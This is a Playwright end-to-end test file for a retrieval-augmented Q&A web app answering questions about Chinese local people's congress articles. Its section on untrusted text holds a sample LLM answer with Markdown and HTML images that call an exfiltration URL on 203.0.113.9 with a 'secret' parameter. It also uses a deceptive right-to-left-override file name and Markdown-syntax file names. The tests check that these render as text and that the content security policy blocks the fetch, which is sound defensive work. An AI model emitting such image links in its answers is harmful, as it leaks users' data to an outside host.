"""The web page in Debian's headless chromium (Playwright), against `bitan serve`.

Screenshots go to test-artifacts/screenshots/ (kept by CI as test artifacts).
"""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from assistant import Settings, build_assistant
from assistant.web.guards import CSP
from tests.conftest import ROOT
from tests.e2e.test_cli import run
from tests.fake_openai import fake_openai_server
from tests.servers import bitan_server

pytestmark = [pytest.mark.browser, pytest.mark.slow]

SHOTS = ROOT / "test-artifacts" / "screenshots"
CHROMIUM = Path("/usr/bin/chromium")
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
NOTE = "青山县人大常委会在每个乡镇设立代表“夜间接待室”，每周三晚上七点到九点由代表轮流接待群众。\n"


@pytest.fixture(scope="module")
def server(column_index_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple]:
    data = tmp_path_factory.mktemp("browser") / "data"
    shutil.copytree(column_index_dir, data)
    with bitan_server(data) as url:
        yield url, data


@pytest.fixture(scope="module")
def browser() -> Iterator:
    if not CHROMIUM.exists():
        pytest.fail("chromium is missing: `make test` installs it (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield chromium
        chromium.close()


@contextmanager
def open_page(browser, url: str, **options) -> Iterator:
    """The page in a fresh browser context (English, 1400×1000 unless ``options`` say
    otherwise: Playwright's ``new_context`` options); afterwards, every request it made must
    have gone to the app itself."""
    options = {"viewport": {"width": 1400, "height": 1000}, "locale": "en-US"} | options
    context = browser.new_context(**options)
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    response = page.goto(url, wait_until="load")
    page.wait_for_selector("#question textarea", timeout=30_000)
    # Only the page's own origin may serve images, scripts, frames and connections.
    assert response is not None and response.headers["content-security-policy"] == CSP
    yield page
    context.close()
    # The page needs nothing from the internet: every request went to the app itself.
    outside = [r for r in requests if not r.startswith((url, "data:", "blob:"))]
    assert outside == []


@pytest.fixture()
def page(browser, server):
    with open_page(browser, server[0]) as page:
        yield page


def ask(page, question: str) -> None:
    count = page.locator(".bitan-answer, .bitan-refusal, #chatbot .bitan-notice").count()
    page.fill("#question textarea", question)
    page.keyboard.press("Enter")
    page.wait_for_function(
        "n => document.querySelectorAll("
        "'.bitan-answer, .bitan-refusal, #chatbot .bitan-notice').length > n",
        arg=count,
        timeout=60_000,
    )
    page.wait_for_selector(".bitan-card", timeout=30_000)


def open_first_answers_citation(page):
    """Click [1] in the first answer on the page; its own card is where the link lands."""
    page.locator(".bitan-answer").first.locator("a.bitan-cite", has_text="[1]").click()
    page.wait_for_function("location.hash === '#src-0-1'")
    return page.locator("#src-0-1")


def shot(page, name: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)


def test_chinese_and_english_questions_get_cited_answers_and_cards(page):
    ask(page, "尧都区代表每月补助多少？")
    answer = page.locator(".bitan-answer").last
    assert "200元" in answer.inner_text()
    assert answer.locator("a.bitan-cite", has_text="[1]").count() == 1
    first_card = page.locator("#src-0-1")
    assert "鲁立波" in first_card.inner_text()
    assert page.locator(".bitan-card .bitan-hl").count() >= 1
    # Clicking [1] in the answer moves to its card.
    open_first_answers_citation(page)
    ask(page, "How does Ningcheng evaluate representatives?")
    english = page.locator(".bitan-answer").last
    assert "[1]" in english.inner_text()
    assert "钱荣新" in page.locator("#src-1-1").inner_text()
    # CJK text is drawn with a CJK font (no tofu boxes): Noto CJK is installed and used.
    fonts = page.evaluate("document.fonts.check('16px \"Noto Sans CJK SC\"', '宁城县')")
    assert fonts is True
    shot(page, "chat")


def test_an_earlier_answer_keeps_its_own_sources(page):
    ask(page, "尧都区代表每月补助多少？")
    ask(page, "How does Ningcheng evaluate representatives?")
    card = open_first_answers_citation(page)
    assert card.is_visible()
    assert "鲁立波" in card.inner_text()
    # The later answer's cards are under it too, and the side panel shows the latest ones.
    assert "钱荣新" in page.locator("#src-1-1").inner_text()
    assert "钱荣新" in page.locator("#side-1-1").inner_text()
    card.scroll_into_view_if_needed()
    shot(page, "earlier-answer-sources")


def test_a_card_opens_its_article_with_the_passage_highlighted(page):
    ask(page, "宁城县如何评价代表履职？")
    page.locator("#open-1").click()
    highlight = page.locator("#article-view #bitan-article-hl")
    highlight.wait_for(state="visible", timeout=30_000)
    assert highlight.is_visible()
    view = page.locator("#article-view").inner_text()
    assert "钱荣新" in view and len(view) > len(highlight.inner_text()) * 2
    shot(page, "article-view")


def test_a_follow_up_shows_the_rewritten_question(page):
    ask(page, "郧阳区人大常委会督办了哪个议案？")
    ask(page, "涉及多少件代表意见建议？")
    rewritten = page.locator(".bitan-rewritten").last
    assert "郧阳区" in rewritten.inner_text()
    assert any("122件" in c for c in page.locator(".bitan-card").all_inner_texts())


def test_a_refusal_looks_different_and_lists_nearest_passages(page):
    ask(page, "上海市浦东新区有多少常住人口？")
    assert page.locator(".bitan-refusal").count() == 1
    assert "not an answer" in page.locator("#sources-title").inner_text()
    assert page.locator(".bitan-card.bitan-nearest").count() >= 1
    border = page.locator(".bitan-refusal").evaluate("e => getComputedStyle(e).borderLeftStyle")
    assert border == "solid"  # the page's own styles are applied
    shot(page, "refusal")


def test_uploading_a_file_in_the_library_then_asking_about_it(page, server, tmp_path: Path):
    note = tmp_path / "夜间接待.txt"
    note.write_text(NOTE, encoding="utf-8")
    page.get_by_role("tab", name="Library").click()
    page.locator("#upload input[type=file]").set_input_files(str(note))
    page.wait_for_timeout(500)
    page.locator("#index-uploads").click()
    status = page.locator("#library-status")
    status.get_by_text("夜间接待.txt: indexed", exact=False).wait_for(timeout=60_000)
    page.locator("#library-table").get_by_text("夜间接待.txt").first.wait_for(timeout=30_000)
    shot(page, "library")
    _, data = server
    # The upload was received (Gradio's temp dir) and kept only inside the data dir.
    assert (data / "uploads" / "夜间接待.txt").is_file()
    assert any(p.name == "夜间接待.txt" for p in (data / "tmp").rglob("*"))
    page.get_by_role("tab", name="Chat").click()
    ask(page, "夜间接待室什么时候开放？")
    assert "夜间接待室" in page.locator("#src-0-1").inner_text()


def test_like_and_dislike_are_written_to_the_feedback_file(page, server):
    _, data = server
    log = data / "feedback.jsonl"
    before = len(log.read_text(encoding="utf-8").splitlines()) if log.exists() else 0
    ask(page, "宝坻区组织开展的全民阅读活动叫什么名字？")
    page.fill("#feedback-comment textarea", "引用准确")
    page.locator("#chatbot button[aria-label='Like']").last.click()
    page.locator("#feedback-status").get_by_text("feedback saved").wait_for(timeout=15_000)
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        lines = log.read_text(encoding="utf-8").splitlines() if log.exists() else []
        if len(lines) > before:
            break
        time.sleep(0.2)
    record = json.loads(lines[-1])
    assert record["liked"] is True and record["comment"] == "引用准确"
    assert record["question"] == "宝坻区组织开展的全民阅读活动叫什么名字？"
    assert record["cited"]


def test_new_conversation_clears_the_chat_and_sources(page):
    ask(page, "尧都区代表每月补助多少？")
    page.locator("#new-chat").click()
    page.wait_for_function("document.querySelectorAll('.bitan-card').length === 0")
    assert page.locator(".bitan-answer").count() == 0
    # The kept conversation was cleared too: a reload brings nothing back.
    page.wait_for_timeout(500)
    page.reload(wait_until="load")
    page.wait_for_selector("#question textarea", timeout=30_000)
    page.wait_for_timeout(1500)  # the kept conversation is restored on load
    assert page.locator("#chatbot .message").count() == 0


def test_enter_on_an_empty_box_does_nothing(page):
    ask(page, "尧都区代表每月补助多少？")
    bubbles = page.locator("#chatbot .message").count()
    assert bubbles >= 2  # the question and its answer
    page.locator("#side-0-1").wait_for()  # the side panel renders its cards after the answer
    cards = page.locator(".bitan-card").count()
    page.fill("#question textarea", "   ")
    page.keyboard.press("Enter")
    page.wait_for_timeout(1500)  # give a (wrong) reply time to appear
    assert page.locator("#chatbot .message").count() == bubbles
    assert page.locator(".bitan-card").count() == cards and cards > 0
    assert page.locator("#chatbot .bitan-notice").count() == 0


# -- untrusted text stays text (issue 16) -------------------------------------------------------
EXFIL = (
    "据钱荣新，宁城县组织开展代表履职评议[1]。\n\n![x](http://203.0.113.9/exfil?q=secret)\n\n"
    "<img src=http://203.0.113.9/raw.png>"
)
ODD_NAME = "![f](pic.png) 积分.txt"


@pytest.fixture(scope="module")
def llm_server(column_index_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator:
    """`bitan serve` with a language model (a fake OpenAI server) that answers with Markdown
    images, over the column and a document whose file name is Markdown."""
    data = tmp_path_factory.mktemp("browser-llm") / "data"
    shutil.copytree(column_index_dir, data)
    odd = data.parent / ODD_NAME
    odd.write_text("青山县人大常委会建立代表履职积分制度，每季度公开一次。\n", encoding="utf-8")
    build_assistant(Settings(data_dir=data)).ingest([odd])
    with fake_openai_server() as (llm_url, fake):
        env = {"BITAN_LLM": "openai:fake", "BITAN_LLM_BASE_URL": llm_url}
        with bitan_server(data, env=env) as url:
            yield url, fake


@pytest.fixture()
def llm_page(browser, llm_server):
    with open_page(browser, llm_server[0]) as page:
        yield page


def test_markdown_images_in_an_answer_or_a_question_are_never_fetched(llm_page, llm_server):
    _, fake = llm_server
    fake.replies = [EXFIL]
    ask(llm_page, "宁城县如何评价代表履职？![q](http://203.0.113.9/q.png)")
    answer = llm_page.locator(".bitan-answer").last
    assert "![x](http://203.0.113.9/exfil?q=secret)" in answer.inner_text()
    assert "<img src=http://203.0.113.9/raw.png>" in answer.inner_text()
    assert answer.locator("a.bitan-cite", has_text="[1]").count() == 1
    question = llm_page.locator("#chatbot .bitan-question").last
    assert question.inner_text() == "宁城县如何评价代表履职？![q](http://203.0.113.9/q.png)"
    assert llm_page.locator("#chatbot img").count() == 0
    shot(llm_page, "markdown-as-text")
    # …and no request left the app, while the answer streamed or after (open_page checks).


def test_the_content_security_policy_stops_a_remote_image(browser, server):
    # Were some markup to get through, the browser itself would refuse to fetch from elsewhere.
    context = browser.new_context()
    page = context.new_page()
    failed: list[tuple[str, str]] = []
    page.on("requestfailed", lambda r: failed.append((r.url, r.failure or "")))
    page.goto(server[0], wait_until="load")
    page.wait_for_selector("#question textarea", timeout=30_000)
    blocked = page.evaluate(
        """() => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation',
                e => resolve([e.effectiveDirective, e.blockedURI]), {once: true});
            const img = document.createElement('img');
            img.src = 'http://203.0.113.9/injected.png';
            document.body.appendChild(img);
        })"""
    )
    assert blocked == ["img-src", "http://203.0.113.9/injected.png"]
    page.wait_for_timeout(200)
    context.close()
    assert ("http://203.0.113.9/injected.png", "csp") in failed  # blocked, never sent


def test_the_delete_status_shows_a_file_name_as_text(llm_page):
    llm_page.get_by_role("tab", name="Library").click()
    llm_page.locator("#delete-source input").click()
    llm_page.get_by_role("option", name=ODD_NAME).click()
    status = llm_page.locator("#library-status")
    llm_page.locator("#delete").click()  # asks first; cancelling keeps the document
    llm_page.locator("#delete-no").click()
    status.get_by_text("Not deleted", exact=False).wait_for(timeout=30_000)
    assert llm_page.locator("#library-table").get_by_text(ODD_NAME).count() > 0
    llm_page.locator("#delete").click()
    status.get_by_text("cannot be undone", exact=False).wait_for(timeout=30_000)
    llm_page.locator("#delete-yes").click()
    status.get_by_text(f"{ODD_NAME}: removed", exact=False).wait_for(timeout=30_000)
    assert status.locator("img").count() == 0 and status.locator("a").count() == 0


def test_the_library_tab_lists_a_document_another_process_indexed(page, server, tmp_path: Path):
    """A page opened before `bitan ingest` ran beside the server lists the new document when
    the Library tab is opened again, without a reload."""
    doc = tmp_path / "节假日接待安排.txt"
    doc.write_text("青山县人大常委会节假日期间安排代表轮流接待群众。\n", encoding="utf-8")
    page.get_by_role("tab", name="Library").click()
    page.locator("#library-table").get_by_text("建设“四个机关”").first.wait_for(timeout=30_000)
    page.get_by_role("tab", name="Chat").click()
    done = run("ingest", str(doc), data_dir=server[1])
    assert done.returncode == 0, done.stderr
    time.sleep(2.1)  # the server looks for other processes' changes at most every 2 s
    page.get_by_role("tab", name="Library").click()
    page.locator("#library-table").get_by_text(doc.name).first.wait_for(timeout=30_000)


def test_a_dot_file_in_an_uploaded_batch_is_rejected_on_its_own(page, tmp_path: Path):
    hidden = tmp_path / ".md"
    hidden.write_text("青山县的隐藏文件。\n", encoding="utf-8")
    named = tmp_path / "evil\u202etxt.md"  # shown as "evildm.txt" with the override kept
    named.write_text("青山县人大常委会每年组织代表视察两次。\n", encoding="utf-8")
    page.get_by_role("tab", name="Library").click()
    page.locator("#upload input[type=file]").set_input_files([str(hidden), str(named)])
    page.wait_for_timeout(500)
    page.locator("#index-uploads").click()
    status = page.locator("#library-status")
    status.get_by_text("eviltxt.md: indexed", exact=False).wait_for(timeout=60_000)
    lines = status.locator("li").all_inner_texts()
    assert lines == [
        ".md: rejected — a hidden file (its name starts with a dot)",
        "eviltxt.md: indexed — 1 passage",
    ]
    assert page.locator(".toast-body").count() == 0  # no bare "Error" for the whole batch


# -- copy and cite, one conversation state, countable feedback (issue 13) -----------------------
def clipboard_after(page, click) -> str:
    """What the clipboard holds after ``click()`` (emptied first, so a copy that does nothing
    shows as '')."""
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.evaluate("navigator.clipboard.writeText('')")
    click()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        text = page.evaluate("navigator.clipboard.readText()")
        if text:
            return text
        page.wait_for_timeout(100)
    return ""


def test_copying_an_answer_gives_text_with_its_sources_not_html(page):
    ask(page, "尧都区代表每月补助多少？")
    shown = page.locator(".bitan-answer").last.inner_text().strip()
    copied = clipboard_after(page, page.locator("#chatbot .bitan-copy-answer").last.click)
    assert "<" not in copied and "bitan-" not in copied and "&#" not in copied
    lines = copied.splitlines()
    assert lines[0] == shown and "[1]" in lines[0]  # the answer as the page shows it
    heading = lines.index("出处 / Sources:")
    sources = lines[heading + 1 :]
    cards = page.locator("#chatbot .bitan-card")
    assert len(sources) == cards.count() > 0
    for n, line in enumerate(sources, 1):  # each numbered source names its headline, author…
        card = page.locator(f"#src-0-{n} .bitan-card-head").inner_text()
        title = card.split("》")[0].split("《")[1]
        assert line.startswith(f"[{n}] 《{title}》 · ") and card.split(" · ")[1] in line
    shot(page, "chat-copy")


def test_copy_citation_copy_conversation_and_export(page):
    ask(page, "尧都区代表每月补助多少？")
    card = page.locator("#src-0-1")
    title = card.locator(".bitan-card-head").inner_text().split("》")[0].split("《")[1]
    author = card.locator(".bitan-card-head").inner_text().split(" · ")[1]
    cite = clipboard_after(page, card.locator(".bitan-copy-cite").click)
    # A column article: author《headline》, then the column named by the bundled metadata.
    assert cite == f"{author}《{title}》, 主任笔谈"
    assert card.locator(".bitan-copy-cite").inner_text() == "已复制 Copied"
    ask(page, "How does Ningcheng evaluate representatives?")
    page.wait_for_timeout(500)  # the copies follow the answer
    whole = clipboard_after(page, page.locator("#copy-chat").click)
    assert whole.startswith("# Bitan 笔谈") and "<div" not in whole
    assert "## 1. 尧都区代表每月补助多少？" in whole
    assert "## 2. How does Ningcheng evaluate representatives?" in whole
    assert f"- [1] 《{title}》 · {author}" in whole and "钱荣新" in whole
    with page.expect_download() as download:
        page.locator("#export-chat").click()
    path = download.value.path()
    exported = Path(path).read_text(encoding="utf-8")
    assert download.value.suggested_filename.endswith(".md")
    assert "## 1. 尧都区代表每月补助多少？" in exported and "钱荣新" in exported
    assert exported.count("\n## ") == 2 and "<div" not in exported


def test_an_earlier_answers_sources_and_the_context_survive_a_reload(page):
    ask(page, "尧都区代表每月补助多少？")
    ask(page, "郧阳区人大常委会督办了哪个议案？")
    assert open_first_answers_citation(page).is_visible()
    shot(page, "chat-earlier-sources")
    page.locator("#chatbot button[aria-label^='Like']").first.click()  # the first answer
    page.locator("#feedback-status").get_by_text("feedback saved").wait_for(timeout=15_000)
    before = page.locator("#chatbot .message").all_inner_texts()
    page.reload(wait_until="load")
    page.wait_for_selector("#src-1-1", timeout=30_000)
    assert page.locator("#chatbot .message").all_inner_texts() == before
    # The thumbs are as they were: the first answer liked, the second not.
    assert page.locator("#chatbot button[aria-label='Liked']").count() == 1
    assert page.locator("#chatbot button[aria-label='Like']").count() == 1
    assert (
        page.locator("#chatbot button[aria-label^='Like']").first.get_attribute("aria-label")
        == "Liked"
    )
    assert "鲁立波" in page.locator("#src-0-1").inner_text()
    assert "姜文静" in page.locator("#side-1-1").inner_text()  # the side panel: latest answer
    assert open_first_answers_citation(page).is_visible()
    shot(page, "chat-after-reload")
    # The kept context came back too: a follow-up is understood against the earlier turns.
    ask(page, "涉及多少件代表意见建议？")
    assert "郧阳区" in page.locator(".bitan-rewritten").last.inner_text()


def test_the_trash_icon_clears_the_chat_its_cards_and_the_kept_context(page):
    ask(page, "郧阳区人大常委会督办了哪个议案？")
    page.locator("#chatbot button[aria-label='Clear']").click()
    page.wait_for_function("document.querySelectorAll('.bitan-card').length === 0")
    assert page.locator("#chatbot .message").count() == 0
    # The follow-up is not condensed against the cleared question.
    ask(page, "涉及多少件代表意见建议？")
    assert page.locator(".bitan-rewritten").count() == 0
    assert page.locator("#chatbot .bitan-question").count() == 1
    page.locator("#chatbot button[aria-label='Clear']").click()
    page.wait_for_function("document.querySelectorAll('.bitan-card').length === 0")
    page.reload(wait_until="load")
    page.wait_for_selector("#question textarea", timeout=30_000)
    page.wait_for_timeout(1500)  # the kept conversation (none) is restored on load
    assert page.locator("#chatbot .message").count() == 0
    assert page.locator(".bitan-card").count() == 0
    shot(page, "chat-after-trash")


def _new_records(log: Path, before: int, count: int) -> list[dict]:
    deadline = time.monotonic() + 10
    lines: list[str] = []
    while time.monotonic() < deadline:
        lines = log.read_text(encoding="utf-8").splitlines() if log.exists() else []
        if len(lines) >= before + count:
            break
        time.sleep(0.2)
    return [json.loads(line) for line in lines[before:]]


def test_like_unlike_and_dislike_are_recorded_as_such(page, server):
    _, data = server
    log = data / "feedback.jsonl"
    before = len(log.read_text(encoding="utf-8").splitlines()) if log.exists() else 0
    ask(page, "尧都区代表每月补助多少？")
    # Gradio labels a selected thumb "Liked" / "Disliked".
    like = page.locator("#chatbot button[aria-label^='Like']").last
    dislike = page.locator("#chatbot button[aria-label^='Dislike']").last
    status = page.locator("#feedback-status")
    like.click()
    status.get_by_text("feedback saved").wait_for(timeout=15_000)
    like.click()  # clicking the selected thumb again withdraws the like
    status.get_by_text("withdrawn").wait_for(timeout=15_000)
    page.fill("#feedback-comment textarea", "金额没说清楚")
    dislike.click()
    status.get_by_text("feedback saved").wait_for(timeout=15_000)
    records = _new_records(log, before, 3)
    assert [r["vote"] for r in records] == ["like", "withdrawn", "dislike"]
    assert [r["liked"] for r in records] == [True, None, False]
    assert len({(r["conversation_id"], r["turn_id"], r["answer_id"]) for r in records}) == 1
    assert records[0]["conversation_id"] and records[0]["answer_id"] and records[0]["turn_id"] == 0
    assert records[-1]["comment"] == "金额没说清楚" and records[-1]["sources"]
    # After the trash icon, a vote goes to the new conversation's answer, not the cleared one.
    page.locator("#chatbot button[aria-label='Clear']").click()
    page.wait_for_function("document.querySelectorAll('.bitan-card').length === 0")
    ask(page, "宁城县如何评价代表履职？")
    page.locator("#chatbot button[aria-label='Like']").last.click()
    (after,) = _new_records(log, before + 3, 1)
    assert after["question"] == "宁城县如何评价代表履职？" and after["turn_id"] == 0
    assert after["vote"] == "like"  # a fresh thumb: not taken for a withdrawal
    assert after["conversation_id"] != records[0]["conversation_id"]
    # `bitan feedback` reads the file the page wrote: the answer liked, withdrawn, then
    # disliked counts once, as disliked, with its comment.
    done = run("feedback", "--json", data_dir=data)
    assert done.returncode == 0, done.stderr
    summary = json.loads(done.stdout)
    (mine,) = [d for d in summary["disliked"] if d["answer_id"] == records[0]["answer_id"]]
    assert mine["comments"] == ["金额没说清楚"] and mine["cited"] == records[0]["cited"]
    assert summary["withdrawals"] >= 1
    assert after["answer_id"] not in {d["answer_id"] for d in summary["disliked"]}
